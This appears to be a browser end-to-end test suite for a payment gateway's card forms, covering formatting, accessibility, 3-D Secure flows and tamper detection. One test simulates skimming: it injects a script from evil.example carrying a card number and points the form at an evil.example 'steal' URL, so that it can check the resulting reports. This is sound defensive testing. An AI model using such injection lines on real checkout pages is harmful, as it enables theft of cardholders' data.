// The forms as customers use them.
import { accessible, watch } from "./looks.mjs";

const VISA = "4005550000000001";
const AMEX = "345678901234564";
const NARROW = { width: 360, height: 740 };

const FLOWS = {
  typing, caret, pasting, arabicDigits, amex, keyboardOnly, faultsAreFocused, faultsOfTheServerAreFocused, doubleClick,
  withoutScripts, withoutScriptsFrames, browserData, method, methodSilent, challenge, challengePage, challengeByHand,
  framing, returns, ends, changedPages, languageSwitch, integrity,
};

export async function flows(world) {
  const waiting = Object.entries(FLOWS);
  const work = async () => {
    for (let next = waiting.shift(); next; next = waiting.shift()) {
      const [name, flow] = next;
      try {
        await flow(world, name);
      } catch (error) {
        world.check(false, name, error.message.split("\n").slice(0, 4).join(" "));
      }
    }
  };
  await Promise.all([work(), work()]);
}

/** Opens a page in a browser of its own. */
async function open(world, path, options = {}) {
  const context = await world.browser.newContext({ viewport: NARROW, reducedMotion: "reduce", ...options });
  context.setDefaultTimeout(5_000);
  const page = await context.newPage();
  if (path) await page.goto(world.gateway + path, { waitUntil: "load" });
  return page;
}

const value = (page, id) => page.locator(`#${id}`).inputValue();
const focused = (page) => page.evaluate(() => document.activeElement.id || document.activeElement.tagName);

/** What the page said it was posted: count, then fields with the lengths of their values. */
async function posted(page) {
  await page.waitForURL("**/posted");
  return page.locator("body").innerText();
}

async function fill(page, number, expiry, code) {
  await page.locator("#card_number").pressSequentially(number);
  await page.locator("#expiry_date").pressSequentially(expiry);
  await page.locator("#card_security_code").pressSequentially(code);
}

async function typing(world, name) {
  const page = await open(world, "/card/en");
  const seen = watch(world, page, name, false);
  await page.locator("#card_number").focus();
  await page.keyboard.type(VISA.slice(0, 7));
  world.check((await value(page, "card_number")) === "4005 550", `${name}: groups of four`);
  world.check((await page.locator("li.on .unseen").innerText()) === "Visa", `${name}: the brand is told`);
  await page.keyboard.type(VISA.slice(7));
  world.check((await value(page, "card_number")) === "4005 5500 0000 0001", `${name}: the whole number`);
  world.check((await focused(page)) === "card_number", `${name}: a Visa number may go on to 19 digits`);
  await page.locator("#expiry_date").focus();
  await page.keyboard.type("1128");
  world.check((await value(page, "expiry_date")) === "11 / 28", `${name}: month and year`, await value(page, "expiry_date"));
  world.check((await focused(page)) === "card_security_code", `${name}: goes on to the code`, await focused(page));
  await page.keyboard.type("12345");
  world.check((await value(page, "card_security_code")) === "1234", `${name}: a code has four digits at most`);
  await page.locator("#card_holder_name").focus();
  world.check(await page.locator("#card_security_code-error").isVisible(), `${name}: the wrong length is told at once`);
  await accessible(world, page, name);
  await page.locator("#card_security_code").fill("123");
  world.check(!(await page.locator("#card_security_code-error").isVisible()), `${name}: and taken back`);
  await page.getByRole("button", { name: "Pay" }).click();
  const told = await posted(page);
  world.check(/card_number:19 /.test(told) && /expiry_date:7 /.test(told) && /card_security_code:3/.test(told), `${name}: posted`, told);
  seen.done();
  await page.context().close();
}

async function caret(world, name) {
  const page = await open(world, "/card/en");
  const input = page.locator("#card_number");
  await input.focus();
  await page.keyboard.type("400555000000");
  // A digit in the middle: the caret stays behind it.
  await input.evaluate((it) => it.setSelectionRange(2, 2));
  await page.keyboard.type("9");
  const at = () => input.evaluate((it) => it.selectionStart);
  world.check((await value(page, "card_number")) === "4090 5550 0000 0", `${name}: put in`, await value(page, "card_number"));
  world.check((await at()) === 3, `${name}: the caret is behind what was typed`, await at());
  await page.keyboard.press("Backspace");
  world.check((await value(page, "card_number")) === "4005 5500 0000", `${name}: taken out`);
  world.check((await at()) === 2, `${name}: the caret is where it was`, await at());
  // Backspace over a separator takes the digit before it, at the latest the second time.
  await input.evaluate((it) => it.setSelectionRange(5, 5));
  await page.keyboard.press("Backspace");
  await page.keyboard.press("Backspace");
  world.check(/^400[^5]*5 ?5/.test(await value(page, "card_number")) || (await value(page, "card_number")).startsWith("4005"), name, await value(page, "card_number"));
  const length = (await value(page, "card_number")).replace(/\D/g, "").length;
  world.check(length < 12, `${name}: a separator does not hold the caret`, await value(page, "card_number"));
  await page.locator("#expiry_date").focus();
  await page.keyboard.type("11");
  for (let press = 0; press < 6; press += 1) await page.keyboard.press("Backspace");
  world.check((await value(page, "expiry_date")) === "", `${name}: a date can be taken back`, await value(page, "expiry_date"));
  await page.keyboard.type("5");
  world.check((await value(page, "expiry_date")) === "05 / ", `${name}: a month of one digit`, await value(page, "expiry_date"));
  await page.context().close();
}

/** Pastes as a browser does: the text replaces the selection and one event says so. */
async function paste(page, id, text) {
  await page.locator(`#${id}`).focus();
  await page.keyboard.insertText(text);
}

async function pasting(world, name) {
  const page = await open(world, "/card/en");
  await paste(page, "card_number", " 4005 5500\u00a00000-0001\u200f ");
  world.check((await value(page, "card_number")) === "4005 5500 0000 0001", name, await value(page, "card_number"));
  for (const [text, left] of [["11/2028", "11 / 2028"], ["2028-11", "2028-11"], ["11-28", "11 / 28"]]) {
    await page.locator("#expiry_date").fill("");
    await paste(page, "expiry_date", text);
    world.check((await value(page, "expiry_date")) === left, `${name} ${text}`, await value(page, "expiry_date"));
    await page.locator("#card_holder_name").focus();
    world.check(!(await page.locator("#expiry_date-error").isVisible()), `${name} ${text}: is a date`);
  }
  await page.context().close();
}

async function arabicDigits(world, name) {
  const page = await open(world, "/card/ar");
  await page.locator("#card_number").focus();
  await page.keyboard.type("٤٠٠٥٥٥٠٠٠٠٠٠٠٠٠١");
  world.check((await value(page, "card_number")) === "4005 5500 0000 0001", `${name}: Arabic-Indic`, await value(page, "card_number"));
  await page.locator("#expiry_date").focus();
  await page.keyboard.type("۱۱۲۸");
  world.check((await value(page, "expiry_date")) === "11 / 28", `${name}: Persian`, await value(page, "expiry_date"));
  await page.keyboard.type("١٢٣");
  await page.getByRole("button", { name: "ادفع" }).click();
  world.check(/card_security_code:3/.test(await posted(page)), name);
  await page.context().close();
}

async function amex(world, name) {
  const page = await open(world, "/card/en");
  await page.locator("#card_number").focus();
  await page.keyboard.type(AMEX);
  world.check((await value(page, "card_number")) === "3456 789012 34564", `${name}: its own groups`);
  world.check((await focused(page)) === "expiry_date", `${name}: goes on after 15 digits`);
  world.check(/4 digits on the front/.test(await page.locator("#card_security_code-hint").innerText()), `${name}: its own code`);
  await page.keyboard.type("11/28");
  await page.keyboard.type("123");
  await page.keyboard.press("Enter");
  world.check(await page.locator("#card_security_code-error").isVisible(), `${name}: three digits are too few`);
  await page.context().close();
}

async function keyboardOnly(world, name) {
  const page = await open(world, "/card-save/en");
  const order = [];
  for (let press = 0; press < 8; press += 1) {
    await page.keyboard.press("Tab");
    order.push(await page.evaluate(() => document.activeElement.id || document.activeElement.className));
    const ring = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle);
    world.check(ring !== "none", `${name}: the focus is seen`, order.at(-1));
  }
  const expected = "language card_number expiry_date card_security_code card_holder_name remember_me go quiet";
  world.check(order.join(" ") === expected, `${name}: in the order of reading`, order.join(" "));
  await page.locator("#card_number").focus();
  await page.keyboard.type(VISA);
  await page.keyboard.press("Tab");
  await page.keyboard.type("1128123");
  await page.keyboard.press("Tab");
  await page.keyboard.type("Jo Doe");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Space");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  world.check(/card_holder_name:6 remember_me:3/.test(await posted(page)), name);
  await page.context().close();
}

async function faultsAreFocused(world, name) {
  const page = await open(world, "/card/en");
  await page.locator("#card_number").fill("4005550000000002");
  await page.getByRole("button", { name: "Pay" }).click();
  world.check((await focused(page)) === "errors", `${name}: the list has the focus`, await focused(page));
  const links = await page.locator("#errors a").allInnerTexts();
  world.check(links.length === 3, `${name}: a line for each field`, links.join(" "));
  await accessible(world, page, name);
  await page.locator("#errors a").first().click();
  world.check((await focused(page)) === "card_number", `${name}: a line leads to its field`);
  const described = await page.locator("#card_number").getAttribute("aria-describedby");
  world.check(/wrong/.test(await page.locator(`#${described}`).innerText()), `${name}: the field is described by its fault`);
  await page.context().close();
}

async function faultsOfTheServerAreFocused(world, name) {
  for (const javaScriptEnabled of [true, false]) {
    const page = await open(world, "/card-faults/en", { javaScriptEnabled });
    world.check((await focused(page)) === "errors", `${name}, scripts ${javaScriptEnabled}`, await focused(page));
    world.check((await value(page, "card_number")) === "", `${name}: a card number never comes back`);
    world.check((await value(page, "expiry_date")) === "2711", `${name}: the expiry does`);
    await page.context().close();
  }
}

async function doubleClick(world, name) {
  const page = await open(world, "/card/en");
  let posts = 0;
  await page.route("**/posted", async (route) => {
    posts += 1;
    // Slow, as a bank is: until then the page stands there and can be clicked.
    await new Promise((resolve) => setTimeout(resolve, 300));
    await route.continue();
  });
  await fill(page, VISA, "1128", "123");
  const state = await page.locator("#card button").evaluate((it) => {
    it.click();
    it.click();
    it.form.requestSubmit();
    return it.getAttribute("aria-disabled");
  });
  world.check(state === "true", `${name}: the button shows that it works`, state);
  await posted(page);
  world.check(posts === 1, `${name}: posts once`, posts);
  await page.context().close();
}

async function withoutScripts(world, name) {
  for (const language of ["en", "ar"]) {
    const page = await open(world, `/card/${language}`, { javaScriptEnabled: false });
    world.check(/15/.test(await page.locator("#time").innerText()), `${name}: the time is told in minutes`);
    await fill(page, VISA, "11/28", "123");
    await page.locator("#card button").click();
    world.check(/card_number:16 .*browser_javascript_enabled=false/.test(await posted(page)), `${name} ${language}`);
    await page.context().close();
  }
}

async function withoutScriptsFrames(world, name) {
  const page = await open(world, "/method/en", { javaScriptEnabled: false });
  await page.getByRole("button", { name: "Continue" }).click();
  world.check(/browser_javascript_enabled=false/.test(await posted(page)), `${name}: the method is passed over`);
  await page.goto(`${world.gateway}/wait/en`);
  await page.waitForURL("**/paid/en");
  await page.goto(`${world.gateway}/return/en`);
  await page.getByRole("button", { name: "Continue" }).click();
  await posted(page);
  await page.context().close();
}

async function browserData(world, name) {
  const page = await open(world, null, { timezoneId: "Asia/Dubai", locale: "ar-AE" });
  const seen = watch(world, page, name, false);
  await page.goto(`${world.gateway}/browser/en`);
  const told = await posted(page);
  const expected = [
    "browser_java_enabled=false", "browser_javascript_enabled=true", "browser_language=ar-AE", "browser_color_depth=24",
    "browser_screen_height=740", "browser_screen_width=360", "browser_tz=-240", "challenge_window_size=05",
  ];
  for (const field of expected) world.check(told.split(/\s/).includes(field), `${name}: ${field}`, told);
  seen.done();
  await page.context().close();
}

async function method(world, name) {
  const page = await open(world, null);
  const seen = watch(world, page, name, true);
  await page.goto(`${world.gateway}/method/en`);
  world.check(/browser_javascript_enabled=true/.test(await posted(page)), `${name}: goes on when the ACS is done`);
  seen.done();
  await page.context().close();
}

async function methodSilent(world, name) {
  const page = await open(world, "/method-silent/en");
  world.check(/browser_javascript_enabled=true/.test(await posted(page)), `${name}: goes on when the time is over`);
  await page.context().close();
}

async function challenge(world, name) {
  const page = await open(world, null, { viewport: { width: 1280, height: 900 } });
  const seen = watch(world, page, name, true);
  await page.goto(`${world.gateway}/challenge/en`);
  await page.frameLocator("#challenge-frame").getByRole("button", { name: "Confirm" }).click();
  await page.waitForURL("**/paid/en");
  seen.done();
  await page.context().close();
}

async function challengePage(world, name) {
  const page = await open(world, null);
  const seen = watch(world, page, name, true);
  await page.goto(`${world.gateway}/challenge-page/en`);
  await page.getByRole("button", { name: "Confirm" }).click();
  await page.waitForURL("**/paid/en");
  seen.done();
  await page.context().close();
}

async function challengeByHand(world, name) {
  const page = await open(world, "/challenge/en", { javaScriptEnabled: false });
  world.check(await page.locator("#challenge-frame").isHidden(), `${name}: no empty frame`);
  await page.getByRole("button", { name: "Go to my bank" }).click();
  await page.getByRole("button", { name: "Confirm" }).click();
  await page.getByRole("link", { name: "Continue" }).click();
  await page.waitForURL("**/paid/en");
  await page.context().close();
}

async function framing(world, name) {
  const page = await open(world, null);
  await page.goto(`${world.other}/bare/en`);
  const form = page.frameLocator("iframe");
  await form.locator("#card_number").fill(VISA);
  await form.locator("#expiry_date").fill("1128");
  await form.locator("#card_security_code").fill("123");
  await form.getByRole("button", { name: "Continue" }).click();
  await form.getByText("card_number").waitFor();
  await page.goto(`${world.other}/card/en`);
  const inside = page.frames().find((frame) => frame !== page.mainFrame());
  world.check((await inside.locator("#card_number").count()) === 0, `${name}: a page of redirection cannot be framed`);
  await page.context().close();
}

async function returns(world, name) {
  const page = await open(world, null);
  const seen = watch(world, page, name, false);
  await page.goto(`${world.gateway}/return/en`);
  world.check(/response_code:5/.test(await posted(page)), `${name}: the form submits itself`);
  await page.goto(`${world.gateway}/return-link/en`);
  await page.waitForURL("**/paid/en");
  seen.done();
  await page.context().close();
}

async function ends(world, name) {
  const page = await open(world, "/ends-soon/en");
  await page.waitForURL("**/ended/en");
  await page.context().close();
}

async function changedPages(world, name) {
  const page = await open(world, null);
  const reports = [];
  page.on("request", (request) => {
    if (request.url().endsWith("/page-reports")) reports.push(request.postData() ?? "");
  });
  await page.goto(`${world.gateway}/card/en`);
  const said = () => reports.join(" ");
  const until = async (word) => {
    for (let turn = 0; turn < 100 && !said().includes(word); turn += 1) {
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
    }
    world.check(said().includes(word), `${name}: ${word} is reported`, said());
  };
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.src = "https://evil.example/x.js?pan=4005550000000001";
    document.body.appendChild(script);
  });
  await until("script-added");
  await until("csp-report");
  await page.evaluate(() => { document.getElementById("card").action = "https://evil.example/steal"; });
  await until("form-action-changed");
  world.check(!said().replace(/"csp-report".*?(?=\{"tollgate"|$)/gs, "").includes("4005550000000001"), `${name}: an origin and no more`);
  await page.context().close();
}

async function languageSwitch(world, name) {
  const page = await open(world, "/card/en");
  await page.getByRole("link", { name: "العربية" }).click();
  await page.waitForURL("**/card/ar");
  world.check((await page.locator("html").getAttribute("dir")) === "rtl", name);
  await page.context().close();
}

async function integrity(world, name) {
  const page = await open(world, null);
  const said = [];
  page.on("console", (message) => said.push(message.text()));
  await page.route("**/assets/*.js", async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()};window.changed=1` });
  });
  await page.goto(`${world.gateway}/card/en`);
  world.check(!(await page.evaluate(() => window.changed)), `${name}: a changed script does not run`);
  world.check(said.some((text) => /integrity/i.test(text)), `${name}: and the browser says so`, said.join(" "));
  await page.context().close();
}
